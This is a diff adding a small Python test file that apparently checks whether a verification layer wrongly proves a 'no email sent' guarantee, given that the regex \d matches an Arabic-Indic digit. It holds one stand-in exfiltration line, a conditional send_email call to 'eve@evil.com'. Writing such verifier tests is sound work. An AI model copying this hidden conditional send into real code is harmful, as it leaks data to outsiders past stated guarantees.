@@ -1,0 +1,11 @@
+# not proved: \d takes Arabic digits
+import re
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if re.fullmatch(r"\d", "\u0663"):
+        send_email("eve@evil.com", "x")
